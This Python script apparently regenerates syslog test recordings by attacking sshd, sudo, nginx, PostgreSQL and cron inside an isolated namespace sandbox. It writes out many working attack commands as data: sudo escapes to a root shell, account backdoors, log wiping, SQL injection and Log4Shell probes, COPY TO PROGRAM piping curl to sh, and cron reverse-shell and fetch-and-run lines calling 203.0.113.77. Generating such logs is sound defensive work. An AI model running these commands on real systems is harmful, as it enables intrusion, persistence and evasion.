#!/usr/bin/env python3
# ruff: noqa: S108 - every path under /tmp is inside the box, which nobody shares
"""Make the recordings of this folder again: real daemons, attacked by real clients, in a box.

Run as root on a Debian machine: `python3 deploy/recordings/record.py [SCENE...]`.

The box is a set of Linux namespaces whose root is a throw-away overlay of the machine's
own: packages are installed, users made, files tampered with and daemons run there, and
all of it is gone at the end. Its only network is a loopback of its own, which carries the
addresses below, so nothing that runs inside can reach anything. What it keeps are the
syslog messages, as they were received from rsyslog or nginx, one a line.
"""

from __future__ import annotations

import contextlib
import os
import shlex
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

HERE = Path(__file__).resolve().parent
PACKAGES = (
    "openssh-server openssh-client sudo cron rsyslog nginx-light postgresql curl iproute2 ncat"
    " vim-tiny hydra dirb ffuf nmap sqlmap python3"
)

SERVER = "192.0.2.10"
STAFF = "192.0.2.51"
SERVER6, STAFF6 = "2001:db8::10", "2001:db8::51"
SCANNER, INTRUDER, BOTNET = "203.0.113.45", "203.0.113.77", "198.51.100.23"
ADDRESSES = (SERVER, STAFF, SCANNER, INTRUDER, BOTNET)

RFC3164_PORT, RFC5424_PORT = 5141, 5142
MAX_LINES = 290
"""A recording stays small: a scanner's later requests resemble its first ones."""

# ---------------------------------------------------------------- commands in the box


def run(command: str, *, stdin: str = "", seconds: float = 60) -> None:
    """Run a shell command to its end; attacks are meant to fail, so the result is not looked at."""
    subprocess.run(
        ["/bin/bash", "-c", command],
        input=stdin.encode(),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        timeout=seconds,
        check=False,
    )


def must(command: str) -> None:
    """Run a shell command that sets something up; its failure ends the recording."""
    subprocess.run(["/bin/bash", "-ec", command], check=True, stdout=subprocess.DEVNULL)


def becoming(user: str) -> str:
    """Prefix that runs a command as a user without logging anything (su and runuser do)."""
    return f"setpriv --reuid={user} --regid={user} --init-groups --reset-env"


def as_user(user: str, command: str, *typed: str) -> None:
    """Run a command for a user, at home and on a terminal, and type lines into it, a prompt each.

    A prompt throws away what was typed before it, and a wrong password delays the next one.
    """
    inner = f"cd ~{user}; exec {becoming(user)} bash -c {shlex.quote(command)}"
    typing = "".join(f"sleep 3; echo {shlex.quote(line)};" for line in typed)
    pause = "sleep 3" if typed else ":"
    run(f"({typing} {pause}) | script -qec {shlex.quote(inner)} /dev/null")


@contextlib.contextmanager
def daemon(command: str, *, settle: float = 1.0) -> Iterator[None]:
    """Run a daemon in the foreground for the length of a with block, then SIGTERM."""
    process = subprocess.Popen(["/bin/bash", "-c", f"exec {command}"])
    try:
        time.sleep(settle)
        yield
    finally:
        time.sleep(0.5)
        process.terminate()
        process.wait(20)


def come_from(address: str) -> None:
    """Give connections to the server this source address, whatever client makes them."""
    local = "proto kernel scope host"
    must(f"ip route replace local {SERVER} dev lo table local {local} src {address}")


def add_user(name: str, password: str, *options: str) -> None:
    """Make a login in the box."""
    must(f"useradd -m -s /bin/bash {' '.join(options)} {name}")
    must(f"echo {shlex.quote(f'{name}:{password}')} | chpasswd")


def write(path: str, text: str, mode: int = 0o644) -> None:
    """Write a file of the box."""
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(textwrap.dedent(text), encoding="utf-8")
    target.chmod(mode)


# ---------------------------------------------------------------- what syslog sends


class Capture:
    """Takes the datagrams of one port, whole, in order."""

    def __init__(self, port: int) -> None:
        """Listen on the port of the box's loopback from now on."""
        self.lines: list[str] = []
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
        self._socket.bind(("127.0.0.1", port))
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        while True:
            self.lines.append(self._socket.recv(65535).decode("utf-8").rstrip("\n"))

    def take(self) -> list[str]:
        """Give what has come since the last call."""
        lines, self.lines = self.lines, []
        return lines


RSYSLOG = f"""\
    module(load="imuxsock" SysSock.RateLimit.Interval="0")
    action(type="omfwd" target="127.0.0.1" port="{RFC3164_PORT}" protocol="udp"
           template="RSYSLOG_TraditionalForwardFormat")
    action(type="omfwd" target="127.0.0.1" port="{RFC5424_PORT}" protocol="udp"
           template="RSYSLOG_SyslogProtocol23Format")
"""


def rsyslog() -> contextlib.AbstractContextManager[None]:
    """Forward /dev/log to both captures; started after a scene's set-up, under its host name."""
    write("/tmp/rsyslog.conf", RSYSLOG)
    return daemon("rsyslogd -n -f /tmp/rsyslog.conf -i /tmp/rsyslog.pid")


# ---------------------------------------------------------------- the scenes


def sshd() -> None:
    """Logins by password and key, then guessing by hydra, root's password found in the end."""
    add_user("alice", "Correct-Horse-7")
    add_user("bob", "Battery-Staple-9")
    add_user("backup2", "x-Long-Unused-1")
    must("echo root:letmein2026 | chpasswd")
    must(
        "ssh-keygen -q -t ed25519 -N '' -f /tmp/key; install -D -m 600 -o alice -g alice"
        " /tmp/key.pub /home/alice/.ssh/authorized_keys; chown alice: /home/alice/.ssh"
    )
    write(
        "/tmp/sshd_config",
        """\
        PermitRootLogin yes
        PasswordAuthentication yes
        UsePAM yes
        KbdInteractiveAuthentication no
        MaxAuthTries 4
        DenyUsers backup2
        Match Address 2001:db8::/32
            KbdInteractiveAuthentication yes
    """,
    )
    write("/tmp/askpass", '#!/bin/sh\necho "$PASSWORD"\n', 0o755)
    write("/tmp/words", "123456\nadmin\npassword\nqwerty\nletmein2026\n")
    write("/tmp/names", "admin\ntest\noracle\nubuntu\n")
    ssh = (
        "SSH_ASKPASS=/tmp/askpass SSH_ASKPASS_REQUIRE=force PASSWORD={password} ssh"
        " -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
        " -o PubkeyAuthentication=no -o NumberOfPasswordPrompts={prompts} {options}"
        " {user}@{server} true"
    )

    def login(user: str, password: str, *, prompts: int = 1, options: str = "", server: str = SERVER) -> None:
        run(ssh.format(user=user, password=password, prompts=prompts, options=options, server=server))

    Path("/run/sshd").mkdir(exist_ok=True)
    with rsyslog(), daemon("/usr/sbin/sshd -D -f /tmp/sshd_config"):
        come_from(STAFF)
        login("alice", "Correct-Horse-7")
        login("bob", "batery-staple-9")  # a typing mistake
        login("bob", "Battery-Staple-9")
        run(f"ssh -i /tmp/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null alice@{SERVER} uptime")
        login("alice", "Correct-Horse-7", options=f"-b {STAFF6}", server=SERVER6)
        come_from(SCANNER)
        run(f"echo 'GET / HTTP/1.0' | ncat -w 2 {SERVER} 22")
        run(f"ncat -z {SERVER} 22")
        login("root", "x", options="-o KexAlgorithms=diffie-hellman-group1-sha1")
        come_from(BOTNET)
        run(f"hydra -t 4 -L /tmp/names -P /tmp/words ssh://{SERVER}", seconds=180)
        come_from(INTRUDER)
        run(f"hydra -l '<b>guest</b>' -p x ssh://{SERVER}")
        login("backup2", "x-Long-Unused-1")
        login("bob", "wrong", prompts=6)
        login("nobody6", "x", options=f"-b {STAFF6}", server=SERVER6)
        run(f"hydra -f -t 4 -l root -P /tmp/words ssh://{SERVER}", seconds=120)
        login("root", "letmein2026")


SUDOERS = """\
    Defaults env_reset, passwd_tries=3
    Defaults secure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
    %sudo ALL=(ALL:ALL) ALL
    deploy ALL=(root) NOPASSWD: /usr/bin/tail, /usr/bin/vim.tiny /srv/app.conf, /usr/bin/find
"""
SUDO_BY_ALICE = (
    # an administrator's day
    "tail -n 2 /var/log/dpkg.log", "ls /root", "apt-get check", "cat /etc/hosts",
    "-u www-data id", "systemctl status nginx", "nginx -t",
    # shells and escapes to one
    "-i", "su - root", "/bin/bash -c id", "awk 'BEGIN {system(\"/bin/sh -c id\")}'",
    "find /srv -maxdepth 0 -exec /bin/sh -c id \\; -quit",
    "python3 -c 'import os; os.system(\"/bin/sh -c id\")'",
    "vim.tiny -es -c ':!/bin/sh -c id' -c ':qa!'", "env /bin/sh -c id",
    "tar -cf /dev/null /etc/hosts --checkpoint=1 --checkpoint-action=exec=/bin/id",
    # staying
    "cat /etc/shadow", "tee -a /etc/sudoers.d/zz", "useradd -o -u 0 -g 0 -M -s /bin/bash sysd",
    "usermod -aG sudo bob", "passwd -u root", "cp /bin/bash /var/tmp/.b",
    "chmod u+s /var/tmp/.b", "tee -a /root/.ssh/authorized_keys", "insmod /tmp/rk.ko",
    # blinding
    "systemctl stop auditd", "service rsyslog stop", "iptables -F", "setenforce 0",
    "truncate -s 0 /var/log/auth.log", "rm -f /var/log/wtmp", "shred -u /root/.bash_history",
)  # fmt: skip


def sudo() -> None:
    """An administrator's day, wrong passwords, users without rights, escapes to a root shell."""
    add_user("alice", "Correct-Horse-7", "-G sudo")
    add_user("bob", "Battery-Staple-9")
    add_user("deploy", "Deploy-Only-3")
    write("/etc/sudoers", SUDOERS, 0o440)
    write("/srv/app.conf", "listen = 8080\n")
    must("sed -i /pam_limits/d /etc/pam.d/sudo* /etc/pam.d/su")  # a box may not raise limits, and says so
    with rsyslog():
        as_user("bob", "sudo cat /etc/shadow", "Battery-Staple-9")
        as_user("alice", "sudo id", "one", "two", "three")
        as_user("alice", "sudo id", "oops", "Correct-Horse-7")
        as_user("deploy", "sudo tail -n 1 /var/log/dpkg.log")
        as_user("deploy", "sudo -n /bin/bash")
        as_user("deploy", "sudo vim.tiny -es -c ':!/bin/sh -c id' -c ':qa!' /srv/app.conf")
        as_user("deploy", "sudo find /srv -maxdepth 0 -exec /bin/sh -c id \\; -quit")
        as_user("deploy", "sudo systemctl restart nginx", "Deploy-Only-3")
        for command in SUDO_BY_ALICE:
            as_user("alice", f"echo Correct-Horse-7 | timeout 10 sudo -S {command}")


def auth() -> None:
    """Accounts made and changed, and su, without sudo in between."""
    add_user("alice", "Correct-Horse-7")
    add_user("bob", "Battery-Staple-9")
    must("echo root:letmein2026 | chpasswd")
    with rsyslog():
        run("useradd -m -s /bin/bash carol; groupadd editors; usermod -aG editors carol")
        run("chpasswd", stdin="carol:New-Start-4\n")
        as_user("alice", "su - bob -c id", "Battery-Staple-9")
        as_user("bob", "su - root -c id", "123456")
        as_user("bob", "su - root -c id", "letmein2026")
        run("useradd -o -u 0 -g 0 -M -s /bin/bash sysd; usermod -aG sudo bob")
        run("chpasswd", stdin="root:owned\n")
        run("passwd root", stdin="owned-2\nowned-2\n")
        run("usermod -U root; chage -M 99999 root; userdel -r carol; groupdel editors")


SITE = f"""\
    daemon off;
    pid /tmp/nginx.pid;
    error_log /dev/null;
    events {{}}
    http {{
        access_log syslog:server=127.0.0.1:{RFC3164_PORT},tag=nginx combined;
        server {{
            listen 80 default_server;
            listen [::]:80 default_server;
            root /tmp/site;
            location / {{ try_files $uri $uri/ =404; }}
            location = /products {{ try_files /products.html =404; }}
            location = /search {{ try_files /products.html =404; }}
            location /reports/ {{ auth_basic reports; auth_basic_user_file /tmp/htpasswd; }}
        }}
    }}
"""
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
VISITS = (
    "/", "/style.css", "/favicon.ico", "/products?id=3", "/products?id=4&sort=name",
    "/search?q=select+a+union+representative", "/search?q=ph%E1%BB%9F", "/products?page=../2",
    "/news/2026/11/opening-hours", "/reports/",
)  # fmt: skip
PROBES = (
    # files that hold secrets, and panels
    "/.env", "/.git/config", "/wp-config.php.bak", "/backup.sql", "/id_rsa", "/.aws/credentials",
    "/phpmyadmin/index.php", "/wp-login.php", "/manager/html", "/server-status",
    # out of the web root
    "/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/shadow",
    "/search?q=..%252f..%252fetc%252fpasswd", "/page?file=php://filter/resource=index",
    # SQL
    "/products?id=1%27%20OR%20%271%27=%271", "/products?id=1+UNION+SELECT+user,password+FROM+users--",
    "/products?id=1;WAITFOR%20DELAY%20%270:0:5%27--", "/products?id=1+AND+SLEEP(5)",
    # script
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    # commands
    "/cgi-bin/status?host=;cat%20/etc/passwd", "/ping?ip=127.0.0.1%7Cid",
    "/cgi-bin/test.sh?a=%60wget%20http://203.0.113.77/x%60", "/run?c=$(curl%20http://203.0.113.77/x)",
    # Log4Shell
    "/?x=$%7Bjndi:ldap://203.0.113.77:1389/a%7D",
    # left by an earlier visitor
    "/uploads/shell.php?cmd=whoami", "/c99.php", "/images/r57.php",
)  # fmt: skip


def web_attacks() -> None:
    """Ask by hand, with curl, for what a scanner would come to later."""
    curl = f"curl -gsm 5 --path-as-is -A {shlex.quote(BROWSER)}"
    for path in PROBES:
        run(f"{curl} {shlex.quote(f'http://{SERVER}{path}')}")
    run(f"curl -sm 5 -A '${{jndi:ldap://203.0.113.77/a}}' http://{SERVER}/")
    run(f"curl -sm 5 -A '() {{ :; }}; /bin/cat /etc/passwd' http://{SERVER}/cgi-bin/status")
    run(f"curl -sm 5 -A '<script>alert(1)</script>' -e '=cmd|calc!A1' http://{SERVER}/")
    run(f"curl -sm 5 -A $'\\e[31mred\\e[0m' http://{SERVER}/")
    run(f"{curl} -X PUT --data x http://{SERVER}/x.jsp; {curl} -X TRACE http://{SERVER}/")
    run(f"{curl} -X DELETE http://{SERVER}/index.html; {curl} -X PROPFIND http://{SERVER}/")
    run(f"printf '\\x16\\x03\\x01 not http\\r\\n\\r\\n' | ncat -w 2 {SERVER} 80")


def nginx() -> None:
    """Visitors, then four scanners with short word lists, then attacks by hand."""
    for page in ("index.html", "products.html", "style.css", "reports/index.html"):
        write(f"/tmp/site/{page}", f"<p>{page}</p>\n")
    must("echo alice:$(openssl passwd -apr1 Correct-Horse-7) >/tmp/htpasswd; chmod -R a+rX /tmp/site")
    write("/tmp/nginx.conf", SITE)
    words = "admin backup cgi-bin config db images index login old private robots.txt test uploads"
    write("/tmp/words", "\n".join(words.split()) + "\n")
    with daemon("nginx -c /tmp/nginx.conf"):
        come_from(STAFF)
        for path in VISITS:
            run(f"curl -gsm 5 -A {shlex.quote(BROWSER)} -e http://{SERVER}/ 'http://{SERVER}{path}'")
        run(f"curl -sm 5 -u alice:Correct-Horse-7 http://{SERVER}/reports/")
        run(f"curl -sIm 5 http://{SERVER}/; curl -sm 5 -d name=x http://{SERVER}/products")
        run(f"curl -gsm 5 --interface {STAFF6} 'http://[{SERVER6}]/products?id=5'")
        come_from(SCANNER)
        run(f"dirb http://{SERVER}/ /tmp/words -S")
        run(f"ffuf -w /tmp/words -u http://{SERVER}/FUZZ.php")
        run(
            f"nmap -sT -Pn -p 80 --script http-enum,http-methods,http-shellshock {SERVER}"
            " --script-args http-enum.displayall,http-enum.category=attacks",
            seconds=120,
        )
        run(
            f"sqlmap --batch --level 1 --technique U --union-cols 1-6 --flush-session"
            f" -u 'http://{SERVER}/products?id=1'",
            seconds=120,
        )
        come_from(INTRUDER)
        web_attacks()


POSTGRES = """\
    log_destination = 'syslog'
    syslog_ident = 'postgres'
    log_connections = on
    log_disconnections = on
    listen_addresses = '127.0.0.1,192.0.2.10'
    unix_socket_directories = '/tmp'
"""
HBA = f"""\
    local all postgres peer
    local app ghost    trust
    local all all      scram-sha-256
    host  app all      {STAFF}/32  scram-sha-256
    host  app all      {INTRUDER}/32  scram-sha-256
    host  all postgres {INTRUDER}/32  scram-sha-256
"""
PREFIXES = ("%m [%p] %q%u@%d ", "%m [%p]: user=%u,db=%d,app=%a,client=%h,sqlstate=%e ")
"""Debian's own log_line_prefix, and one that also names client and SQLSTATE."""


def psql(user: str, database: str, password: str, *statements: str) -> None:
    """Connect over TCP with a password and run statements, if the server lets us."""
    commands = " ".join(f"-c {shlex.quote(statement)}" for statement in statements or ("SELECT 1",))
    run(f"PGPASSWORD={password} PGCONNECT_TIMEOUT=5 psql -w -h {SERVER} -U {user} -d {database} {commands}")


def postgres_visits() -> None:
    """Do one day's work and one attack against the running server."""
    come_from(STAFF)
    psql("app", "app", "App-Secret-8", "SELECT count(*) FROM orders")
    psql("app", "app", "App-Secret-8", "SELEC 1", "SELECT * FROM no_such_table")
    psql("app", "app", "App-Secret-9")
    come_from(INTRUDER)
    for password in ("postgres", "admin", "123456", "password"):
        psql("postgres", "app", password)
    for role in ("admin", "root", "sa"):
        psql(role, "app", "admin")
    psql("app", "payroll", "App-Secret-8")
    psql(
        "report",
        "app",
        "report",
        "SELECT * FROM salaries",
        "CREATE TABLE x (y int)",
        "COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.77/x|sh'",
        "CREATE ROLE backdoor SUPERUSER",
        "SELECT pg_read_file('/etc/passwd')",
    )
    psql("app\\'--", "app", "x")
    run(f"{becoming('www-data')} psql -w -h /tmp -U postgres")
    run("psql -w -h /tmp -U ghost -d app")
    come_from(BOTNET)
    psql("postgres", "postgres", "postgres")
    come_from(INTRUDER)
    psql("postgres", "nosuch", "Very-Root-5")
    psql(
        "postgres",
        "postgres",
        "Very-Root-5",
        "COPY (SELECT 1) TO PROGRAM 'cat >/tmp/out'",
        "CREATE ROLE backdoor SUPERUSER LOGIN PASSWORD 'x'",
        "DROP ROLE backdoor",
        "COPY (SELECT 1) TO PROGRAM 'false'",
    )


def postgresql() -> None:
    """The same visits and attack under two forms of log_line_prefix; statements logged in the second."""
    binaries = max(Path("/usr/lib/postgresql").glob("*/bin"), key=lambda path: int(path.parent.name))
    data = "/tmp/pg"
    must(f"install -d -o postgres /tmp/pg; {becoming('postgres')} {binaries}/initdb -D {data}")
    write(f"{data}/pg_hba.conf", HBA)
    roles = (
        "ALTER ROLE postgres PASSWORD 'Very-Root-5'",
        "CREATE ROLE app LOGIN PASSWORD 'App-Secret-8'",
        "CREATE ROLE report LOGIN PASSWORD 'report'",
        "CREATE DATABASE app OWNER app",
    )
    tables = ("CREATE TABLE salaries (x int)", "SET ROLE app", "CREATE TABLE orders (x int)")
    start = f"{becoming('postgres')} {binaries}/postgres -D {data}"
    write(f"{data}/postgresql.conf", "unix_socket_directories = '/tmp'\nlisten_addresses = ''\n")
    must(f"chown postgres {data}/*.conf")
    with daemon(start, settle=3):
        for database, statements in (("postgres", roles), ("app", tables)):
            commands = " ".join(f"-c {shlex.quote(statement)}" for statement in statements)
            must(f"{becoming('postgres')} psql -h /tmp -d {database} {commands}")
    for prefix, logged in zip(PREFIXES, ("none", "ddl"), strict=True):
        extra = f"log_line_prefix = '{prefix}'\nlog_statement = '{logged}'\n"
        write(f"{data}/postgresql.conf", textwrap.dedent(POSTGRES) + extra)
        with rsyslog(), daemon(start, settle=3):
            postgres_visits()


def cron() -> None:
    """Ordinary jobs, crontabs edited by their owners, then jobs that fetch and run code."""
    add_user("alice", "Correct-Horse-7")
    add_user("bob", "Battery-Staple-9")
    write(
        "/etc/cron.d/app",
        "* * * * * root cd / && run-parts --report /etc/cron.hourly\n"
        "* * * * * www-data test -x /usr/bin/php && /usr/bin/php -f /srv/cron.php\n",
    )
    write("/tmp/nightly", "* * * * * /usr/local/bin/rotate --keep 7\n")
    write(
        "/tmp/persist",
        """\
        * * * * * curl -fsSL http://203.0.113.77/x.sh | sh
        * * * * * /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1'
        * * * * * echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjc3L3gK | base64 -d | bash
        * * * * * /tmp/.x/kworker --quiet
    """,
    )
    write("/tmp/editor", "#!/bin/sh\necho '# edited' >>$1\n", 0o755)
    with rsyslog(), daemon("cron -f"):
        as_user("alice", "crontab /tmp/nightly; crontab -l; VISUAL=/tmp/editor crontab -e")
        time.sleep(61)
        as_user("bob", "crontab /tmp/persist; crontab -l")
        run("crontab -u www-data /tmp/persist")
        time.sleep(121)
        as_user("alice", "crontab -r")
        as_user("bob", "crontab -r")


SCENES: dict[str, tuple[str, Callable[[], None]]] = {
    "sshd": ("gw01", sshd),
    "sudo": ("web01", sudo),
    "auth": ("web02", auth),
    "nginx": ("web01", nginx),
    "postgresql": ("db01", postgresql),
    "cron": ("app01", cron),
}

# ---------------------------------------------------------------- the box


def build_root(work: Path) -> Path:
    """Mount a throw-away copy of the machine's root, with devices and /proc of its own."""
    must(f"mount --make-rprivate /; mount -t tmpfs -o mode=755 box {work}")
    for name in ("upper", "work", "root"):
        (work / name).mkdir()
    root = work / "root"
    must(f"mount -t overlay -o lowerdir=/,upperdir={work}/upper,workdir={work}/work box {root}")
    must(f"cd {root}; mount -t proc proc proc; mount -t tmpfs -o mode=755 dev dev;"
         " mount -t tmpfs -o mode=1777 tmp tmp; mount -t tmpfs -o mode=755 run run;"
         " mkdir dev/pts dev/shm; mount -t devpts -o newinstance,ptmxmode=666,mode=620 pts dev/pts;"
         " ln -s pts/ptmx dev/ptmx; ln -s /proc/self/fd dev/fd;"
         " for node in 'null 1 3' 'zero 1 5' 'full 1 7' 'random 1 8' 'urandom 1 9' 'tty 5 0';"
         " do set -- $node; mknod -m 666 dev/$1 c $2 $3; done; chmod 1777 dev/shm")  # fmt: skip
    for name in ("hosts", "resolv.conf"):
        source = Path("/etc", name).read_text(encoding="utf-8")
        (root / "etc" / name).unlink()
        (root / "etc" / name).write_text(source, encoding="utf-8")
    return root


def install() -> None:
    """Install what the scenes need, into the box, without starting services."""
    write("/usr/sbin/policy-rc.d", "#!/bin/sh\nexit 101\n", 0o755)
    must(
        "export DEBIAN_FRONTEND=noninteractive; apt-get -qq update;"
        f" apt-get -qq install --no-install-recommends {PACKAGES} >&2"
    )


def play(scene: str, output: int) -> None:
    """Play one scene in a network and under a host name of its own, and send its lines out."""
    host, act = SCENES[scene]
    socket.sethostname(host)
    write("/etc/hosts", f"127.0.0.1 localhost {host}\n")
    must("ip link set lo up; " + "; ".join(f"ip addr add {a}/32 dev lo" for a in ADDRESSES))
    must(f"ip addr add {SERVER6}/128 dev lo; ip addr add {STAFF6}/128 dev lo")
    captures = {"": Capture(RFC3164_PORT), "rfc5424/": Capture(RFC5424_PORT)}
    act()
    time.sleep(1)
    with os.fdopen(output, "w", encoding="utf-8") as out:
        for folder, capture in captures.items():
            for line in capture.take()[:MAX_LINES]:
                out.write(f"{folder}{scene}.log\t{line}\n")


def record(scene: str) -> None:
    """Play one scene in a fresh box and write its files."""
    reader, writer = os.pipe()
    box = ["unshare", "--mount", "--pid", "--fork", "--kill-child", "--uts", "--ipc"]
    environment = {
        "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        "LANG": "C.UTF-8",
        "TZ": "UTC",
        "HOME": "/root",
        "SHELL": "/bin/bash",
    }
    with tempfile.TemporaryDirectory() as work:
        script = Path(work) / "script"
        script.write_bytes(Path(__file__).read_bytes())
        command = [*box, sys.executable, str(script), "--in-box", scene, str(writer), work]
        process = subprocess.Popen(command, pass_fds=[writer], env=environment)
        os.close(writer)
        with os.fdopen(reader, encoding="utf-8") as lines:
            files: dict[str, list[str]] = {}
            for line in lines:
                name, _, message = line.partition("\t")
                files.setdefault(name, []).append(message)
        if process.wait() != 0:
            sys.exit(f"{scene}: the box failed with {process.returncode}")
    for name, messages in files.items():
        (HERE / name).parent.mkdir(exist_ok=True)
        (HERE / name).write_text("".join(messages), encoding="utf-8")
        print(f"{name}: {len(messages)} lines")


def in_box(scene: str, output: int, work: Path) -> None:
    """Build the box's root, enter it, install with the machine's network, play without it."""
    script = Path(__file__).read_bytes()
    root = build_root(work)
    (root / "tmp/script.py").write_bytes(script)
    os.chroot(root)
    os.chdir("/")
    install()
    play_alone = ["unshare", "--net", "/usr/bin/python3", "/tmp/script.py", "--play", scene, str(output)]
    result = subprocess.run(play_alone, pass_fds=[output], check=False)
    sys.exit(result.returncode)


def main(arguments: list[str]) -> None:
    """Record the scenes named, or all; the two other forms are the box calling itself."""
    if arguments[:1] == ["--in-box"]:
        in_box(arguments[1], int(arguments[2]), Path(arguments[3]))
    elif arguments[:1] == ["--play"]:
        play(arguments[1], int(arguments[2]))
    else:
        for scene in arguments or SCENES:
            record(scene)


if __name__ == "__main__":
    main(sys.argv[1:])
